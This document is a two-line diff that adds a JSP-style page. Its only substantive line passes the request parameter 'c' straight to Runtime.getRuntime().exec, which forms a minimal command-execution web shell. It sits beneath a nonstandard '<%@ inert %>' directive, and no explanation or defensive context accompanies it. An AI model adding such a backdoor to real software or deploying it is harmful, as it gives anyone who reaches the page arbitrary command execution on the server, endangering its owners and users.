@@ -1,0 +1,2 @@
+<%@ inert %>
+${Runtime.getRuntime().exec(param.c)}
